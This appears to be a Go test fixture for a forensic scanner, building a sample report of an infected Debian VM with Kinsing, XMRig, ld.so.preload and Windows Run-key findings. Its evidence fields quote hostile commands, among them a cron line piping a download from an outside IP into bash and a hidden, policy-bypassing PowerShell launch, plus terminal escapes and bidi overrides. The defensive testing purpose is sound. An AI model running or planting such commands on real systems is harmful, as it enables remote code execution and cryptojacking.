package report

import (
	"strings"
	"time"
)

func ptr[T any](v T) *T { return &v }

func at(s string) *time.Time {
	t, err := time.Parse(time.RFC3339, s)
	if err != nil {
		panic(err)
	}
	return &t
}

// sampleReport is a fixed report shaped like a scan of an infected Debian
// VM with a Windows disk beside it: every field the writers render is set
// somewhere, findings arrive unsorted and one twice (as parallel checks
// deliver them), and the content includes what a hostile image can hold:
// terminal escapes, bidi overrides, bytes that are not UTF-8, very long
// lines and paths.
func sampleReport() *Report {
	root := "web01.qcow2@2"
	win := "web01.qcow2@4"
	return &Report{
		Tool:        "snapscan",
		Version:     "0.3.0",
		Image:       "/evidence/case-0412/web01.qcow2",
		ImageSHA256: strings.Repeat("ab", 32),
		Container:   "qcow2",
		ImageSize:   21474836480,
		Started:     *at("2026-11-25T06:00:00Z"),
		Duration:    12.34,
		Volumes: []Volume{
			{Name: "web01.qcow2@1", Index: 1, Start: 1048576, Size: 536870912, PartType: "EFI System", Filesystem: "vfat", Label: "EFI", Scanned: true},
			{Name: root, Index: 2, Start: 537919488, Size: 20401094656, PartType: "Linux filesystem", PartName: "root", Filesystem: "ext4", Label: "rootfs", UUID: "6b1c0f1e-8d1c-4b8e-9f0a-0c2d8e3f4a5b", Scanned: true},
			{Name: "web01.qcow2@3", Index: 3, Start: 20939014144, Size: 535822336, PartType: "Linux swap", Filesystem: "swap", Scanned: false, Reason: "swap space holds no files"},
			{Name: win, Index: 4, Start: 21474836480, Size: 0, Filesystem: "ntfs", Label: "Windows", Scanned: true},
		},
		Targets: []Target{
			{OS: "linux", Name: "Debian GNU/Linux 12 (bookworm)", Volume: root, Mounts: map[string]string{"/boot/efi": "web01.qcow2@1", "/": root},
				Checks: []string{"cron", "systemd", "rc", "preload", "sshkeys", "accounts", "immutable", "binaries", "hosts"}},
			{OS: "windows", Name: "Windows Server 2022 Standard", Volume: win, Checks: []string{"runkeys", "services", "tasks", "hosts"}, Comment: "SOFTWARE hive read from the RegBack copy"},
		},
		Findings: []Finding{
			{ // info, listed first to prove sorting
				Rule: "ssh.authorized-key", Check: "sshkeys", Title: "SSH key grants login", Severity: Info,
				Technique: "T1098.004", TechniqueName: "Account Manipulation: SSH Authorized Keys",
				Evidence: Evidence{Volume: root, Path: "/root/.ssh/authorized_keys", Inode: 262148, UID: ptr(uint32(0)), GID: ptr(uint32(0)), Mode: "-rw-------", Size: 99,
					Mtime: at("2026-10-01T03:12:45Z"), Line: 1, Match: "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFak3 admin@jump",
					MD5: strings.Repeat("1", 32), SHA256: strings.Repeat("2", 64)},
				Remediation: "Confirm the key belongs to a known administrator; remove it from /root/.ssh/authorized_keys if not.",
			},
			{
				Rule: "cron.download-exec", Check: "cron", Title: "Cron job downloads and runs a remote script", Severity: Critical,
				Technique: "T1053.003", TechniqueName: "Scheduled Task/Job: Cron", Family: "Kinsing",
				Description: "Piping a download into a shell runs whatever the server sends, every time the job fires.",
				Evidence: Evidence{Volume: root, Path: "/etc/cron.d/0systemd", Inode: 393230, UID: ptr(uint32(0)), GID: ptr(uint32(0)), Mode: "-rw-r--r--", Size: 182,
					Mtime: at("2026-10-02T01:00:00Z"), Ctime: at("2026-10-02T01:00:05Z"), Atime: at("2026-11-20T00:00:00Z"), Btime: at("2026-10-02T01:00:00Z"),
					Flags: []string{"immutable"}, MD5: "d41d8cd98f00b204e9800998ecf8427e", SHA256: "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
					Line: 3, Match: "*/5 * * * * root (curl -fsSL http://185.0.2.10/gi.sh || wget -q -O- http://185.0.2.10/gi.sh) | bash > /dev/null 2>&1 & \x1b[2J\x1b[1;1Hclean"},
				Remediation: "Preserve /etc/cron.d/0systemd, then run chattr -i on it and delete line 3; check the other persistence places Kinsing uses.",
			},
			{ // the same finding again, as a second check run would report it
				Rule: "cron.download-exec", Check: "cron", Title: "Cron job downloads and runs a remote script", Severity: Critical,
				Technique: "T1053.003", TechniqueName: "Scheduled Task/Job: Cron", Family: "Kinsing",
				Evidence:    Evidence{Volume: root, Path: "/etc/cron.d/0systemd", Line: 3, Size: 182},
				Remediation: "duplicate: must be dropped",
			},
			{
				Rule: "preload.library", Check: "preload", Title: "ld.so.preload loads a library into every process", Severity: High,
				Technique: "T1574.006", TechniqueName: "Hijack Execution Flow: Dynamic Linker Hijacking", Family: "Kinsing",
				Evidence:    Evidence{Volume: root, Path: "/etc/ld.so.preload", Inode: 393301, Mode: "-rw-r--r--", Size: 28, Line: 1, Match: "/usr/local/lib/libsystem.so"},
				Remediation: "Boot from clean media, empty /etc/ld.so.preload and preserve /usr/local/lib/libsystem.so for analysis.",
			},
			{
				Rule: "yara.xmrig", Check: "sweep", Title: "XMRig miner binary", Severity: High,
				Technique: "T1496", TechniqueName: "Resource Hijacking", Family: "XMRig",
				Evidence: Evidence{Volume: root, Path: "/var/tmp/.ICE-unix/.../very/deeply/nested/directory/structure/that/goes/on/and/on/kdevtmpfsi-renamed-to-look-like-a-kernel-thread",
					Inode: 1048577, UID: ptr(uint32(1001)), GID: ptr(uint32(1001)), Mode: "-rwxr-xr-x", Size: 2437120,
					SHA256: "5f4dcc3b5aa765d61d8327deb882cf995f4dcc3b5aa765d61d8327deb882cf99", MD5: "5f4dcc3b5aa765d61d8327deb882cf99", Binary: true},
				Matches: []RuleMatch{{Rule: "XMRig_Miner", Tags: []string{"miner", "linux"}, Source: "embedded", Strings: []StringMatch{
					{Name: "$donate", Offset: 0x1f2a0, Data: "--donate-level"}, {Name: "$pool", Offset: 0x20010, Data: "stratum+tcp://pool.minexmr.com:4444"},
				}}},
				Remediation: "Preserve the file, then delete it and find what started it (cron, systemd, rc).",
			},
			{
				Rule: "windows.run-key", Check: "runkeys", Title: "Run key starts PowerShell from a user-writable place", Severity: Medium,
				Technique: "T1547.001", TechniqueName: "Boot or Logon Autostart Execution: Registry Run Keys / Startup Folder",
				Evidence: Evidence{Volume: win, Path: "/Windows/System32/config/SOFTWARE", Inode: 4242, Size: 67108864, Binary: true,
					Key:   `HKLM\Software\Microsoft\Windows\CurrentVersion\Run\Updater`,
					Match: "powershell -w hidden -ep bypass -f C:\\ProgramData\\upd\\run.ps1 \u202eexe.txt\xff"},
				Remediation: `Delete the value "Updater" from HKLM\Software\Microsoft\Windows\CurrentVersion\Run (offline: with hivexregedit) after preserving the hive.`,
			},
			{
				Rule: "hosts.pool", Check: "hosts", Title: "hosts pins a mining pool name", Severity: Low,
				Technique: "T1565.001", Family: "",
				Evidence:    Evidence{Volume: root, Path: "/etc/hosts", Size: 512, Line: 9, Match: "10.1.2.3 pool.supportxmr.com"},
				Remediation: "Remove line 9 from /etc/hosts.",
			},
		},
		Inventory: []InventoryItem{
			{Kind: "systemd", Volume: root, Path: "/etc/systemd/system/bot.service", Summary: "ExecStart=/tmp/kdevtmpfsi", Fields: map[string]string{"enabled_by": "multi-user.target.wants", "user": "root"}},
			{Kind: "cron", Volume: root, Path: "/etc/cron.d/0systemd", Line: 3, Summary: "*/5 * * * * root (curl -fsSL http://185.0.2.10/gi.sh || wget -q -O- http://185.0.2.10/gi.sh) | bash", Fields: map[string]string{"user": "root", "schedule": "*/5 * * * *"}},
			{Kind: "cron", Volume: root, Path: "/etc/crontab", Line: 17, Summary: "25 6 * * * root test -x /usr/sbin/anacron || run-parts --report /etc/cron.daily"},
		},
		Errors: []ScanError{
			{Volume: root, Path: "/var/spool/cron/crontabs/www-data", Stage: "check:cron", Error: "read: inode 524301: extent tree depth 9 exceeds 5"},
			{Volume: win, Path: "/Windows/System32/Tasks/Microsoft/Windows/UpdateOrchestrator/Schedule Scan", Stage: "check:tasks", Error: "parse XML: XML syntax error on line 1: invalid UTF-16"},
			{Volume: root, Path: "/var/spool/cron/crontabs/www-data", Stage: "check:cron", Error: "read: inode 524301: extent tree depth 9 exceeds 5"},
		},
		Skipped: []Skipped{
			{Volume: root, Path: "/var/lib/docker/overlay2/big.img", Size: 1 << 32, Reason: "larger than --max-file-size"},
			{Volume: root, Path: "/swapfile", Size: 1 << 31, Reason: "larger than --max-file-size"},
			{Volume: root, Path: "/var/log/journal/sparse", Size: 1 << 27, Reason: "sparse"},
		},
		Stats: Stats{FilesSwept: 48213, BytesSwept: 3221225472, FilesSkipped: 3},
	}
}
